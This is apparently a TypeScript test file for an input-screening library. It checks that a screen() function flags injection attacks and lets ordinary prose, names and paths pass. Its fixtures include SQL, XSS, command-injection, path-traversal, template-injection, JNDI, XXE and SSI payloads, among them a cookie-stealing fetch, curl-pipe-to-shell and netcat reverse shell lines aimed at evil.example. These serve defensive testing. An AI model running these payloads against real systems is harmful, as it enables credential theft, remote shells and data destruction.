import assert from "node:assert/strict";
import { describe, test } from "node:test";

import { type AttackClass, screen, type ScreenOptions } from "../src/index.ts";

const attacks: Partial<Record<AttackClass, readonly string[]>> = {
  sqli: [
    "nobody' OR '7'='7",
    "nobody' or 3=3 --",
    "12 or 4=4",
    "12) and (5=5",
    "x'/**/or/**/9=9#",
    "-3 union all select login, secret from accounts",
    "4'; drop table invoices; --",
    "4'; exec xp_cmdshell 'calc' --",
    "admin'--",
    "x' and sleep(4) and 'y'='y",
    "1 and extractvalue(1, concat(0x3a, user()))",
    "z'; waitfor delay '0:0:4' --",
    "5 order by 14 --",
    "a'||(select token from vault)||'",
    "nobody%27%20or%203%3D3%20--%20",
    "nobody%2527 or 3=3 -- ",
    "nobody\uff07 or 3\uff1d3 -- ",
  ],
  xss: [
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "<img src=q onerror=alert(7)>",
    "<svg/onload=prompt(7)>",
    '"><details open ontoggle=confirm(7)>',
    '<a href="java\tscript:alert(7)">x</a>',
    "<a href=&#106;avascript:alert(7)>x</a>",
    "<iframe srcdoc='<p>x'>",
    "';alert(7)//",
    '" autofocus onfocus=alert(7) x="',
    "%3Cscript%3Ealert(7)%3C/script%3E",
    "\\u003cimg src=q onerror=alert(7)\\u003e",
  ],
  cmdi: [
    "; cat /etc/hostname",
    "report.txt && curl http://evil.example/x.sh | sh",
    "8.8.8.8 | whoami",
    "$(id)",
    "a`uname -a`",
    "x;${IFS}ls",
    "() { :; }; /bin/ls",
    "x || nc -e /bin/sh evil.example 4444",
    "x%3B%20wget%20http%3A%2F%2Fevil.example",
  ],
  traversal: [
    "../../../../srv/secret",
    "..\\..\\..\\windows\\win.ini",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/app.env",
    "..%252f..%252f..%252fetc/shadow",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini",
    "....//....//....//etc/passwd",
    "/static/../../../proc/self/environ",
  ],
  ssti: [
    "{{9*9}}",
    "${7*7}",
    "<%= 6*6 %>",
    "#{5*5}",
    "{{ ''.__class__.__mro__ }}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "{% import os %}{{ os.popen('id').read() }}",
    "${jndi:ldap://evil.example/a}",
  ],
  nosql: ['{"$ne": null}', "[$gt]=", "x' || 'q'=='q", "a'; return true; var b='"],
  xxe: ['<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]><r>&e;</r>'],
  ssi: ['<!--#exec cmd="id"-->'],
};

for (const [attackClass, texts] of Object.entries(attacks)) {
  describe(`${attackClass} is found under both profiles`, () => {
    for (const text of texts) {
      test(text, () => {
        for (const profile of ["strict", "prose"] as const) {
          const found = screen(text, { profile });
          assert.ok(
            found.some((finding) => finding.class === attackClass),
            `${profile}: ${JSON.stringify(found)}`,
          );
        }
      });
    }
  });
}

describe("what people ask and write passes as prose", () => {
  const texts = [
    "What is the capital of France?",
    "O'Brien's SELECT committee",
    "how do I drop a table in SQL?",
    "What does UNION ALL SELECT do, and how is it different from UNION?",
    "Explain: SELECT name FROM people WHERE age > 30 AND city = 'Rome' ORDER BY name;",
    "Why does `WHERE 1=1` speed nothing up?",
    "It's 5 o'clock; don't forget the boys' and girls' coats -- thanks!",
    "Solve x^2 - 5x + 6 = 0 and x > 2 or x = 3.",
    'She said "yes" or "no"; and 20" isn\'t 15".',
    'How do I centre a <div> inside another <div class="box">?',
    "What is the difference between <b> and <strong>? Is <br/> fine?",
    "In bash, what does `ps aux | grep node` print? And `ls -la && pwd`?",
    "find . -name '*.log' -mtime +7 | xargs rm",
    "Use import x from '../../lib/x.js' or './y'?",
    "What is stored in /etc/passwd?",
    "How do I print {{ user.name }} in a template? And ${price} in JavaScript?",
    "Let $f(x) = \\frac{1}{1+2x}$, $x \\in [0, 5)$; compute $\\int_0^1 f$.",
    "R&D at AT&T; Q&A for M&Ms | cats & dogs",
    "50% off, 100% sure; 3 < 5 > 2 :-)",
    "多言語のテスト。「こんにちは」、世界！",
    "Что такое «SQL»? Объясни; пожалуйста.",
    "db.users.find({ age: { $gt: 30 } }) returns nothing, why?",
    "- [ ] item one\n- [x] item two\n\n> quote\n\n| a | b |\n|---|---|\n| 1 | 2 |",
  ];
  for (const text of texts) test(text.slice(0, 70), () => assert.deepEqual(screen(text, { profile: "prose" }), []));
});

describe("names, ids and paths pass as strict", () => {
  const texts = [
    "O'Brien",
    "Renée d'Arc",
    "session-4f2a_99",
    "3f1c2b1e-7a57-4c1b-9a52-0d6f1d1b7c11",
    "2025-01-22T10:30:00Z",
    "report (final).pdf",
    "/var/data/2025/report.pdf",
    "https://example.com/a/b?x=1&y=2#top",
    "anna+test@example.com",
    "Größe: 5 m²",
    "v1.2.3-beta.1",
    "+49 (30) 123-456",
    ".",
    "...",
    "1..2",
    "pages 1 .. 2",
    "a..b",
    "v1.2.0...v1.3.0",
    "etc..",
    "..name",
  ];
  for (const text of texts) test(text, () => assert.deepEqual(screen(text, { profile: "strict" }), []));
});

test("a sensitive path by itself counts in a strict field only", () => {
  assert.equal(screen("/etc/passwd", { profile: "strict" })[0]?.rule, "sensitive-file");
  assert.deepEqual(screen("/etc/passwd", { profile: "prose" }), []);
  assert.deepEqual(screen("x' or 1=1 --", { profile: "off" }), []);
});

test("the span is the position in the text, or the whole text behind an encoding", () => {
  const text = "Is this bad? <img src=x onerror=alert(1)> I think so.";
  const [finding] = screen(text, { profile: "prose" });
  assert.ok(finding !== undefined);
  assert.ok(text.slice(...finding.span).startsWith("<img src=x onerror"));
  const encoded = "%3Cimg src=x onerror=alert(1)%3E";
  const hidden = screen(encoded, { profile: "prose" }).find(({ rule }) => rule === "event-handler");
  assert.deepEqual(hidden?.span, [0, encoded.length]);
});

test("a bad option throws, and lets nothing pass", () => {
  const attack = "x' or '1'='1";
  const options = (value: object) => value as ScreenOptions;
  assert.throws(
    () => screen(attack, options({ profile: "Prose" })),
    /option `profile` must be one of strict, prose, model, off, got "Prose"/,
  );
  assert.throws(() => screen(attack, options({})), /option `profile` must be one of strict, prose, model, off, got undefined/);
  for (const threshold of [0, 11, Number.NaN])
    assert.throws(() => screen(attack, { profile: "prose", threshold }), /option `threshold` must be a number from 1 to 10, got/);
  assert.throws(() => screen(attack, options({ profile: "prose", threshold: "7" })), /option `threshold` must be a number .*, got "7"/);
  assert.throws(() => screen(attack, options({ profile: "prose", judge: "no" })), /option `judge` must be true or false, got "no"/);
  assert.throws(() => screen(attack, options({ profile: "off", treshold: 4 })), /unknown option `treshold`; known options: profile, thre/);
  for (const missing of [undefined, null, "prose"] as unknown[] as object[])
    assert.throws(() => screen(attack, options(missing)), {
      name: "TypeError",
      message: /the options must be an object with `profile`, got/,
    });
});

test("a text that is no string throws", () => {
  for (const text of [5, undefined, null, ["x"], {}, Object.create(null)] as unknown[] as string[])
    for (const profile of ["prose", "off"] as const)
      assert.throws(() => screen(text, { profile }), {
        name: "TypeError",
        message: /^@aivillage\/screening: the text must be a string, got /,
      });
});
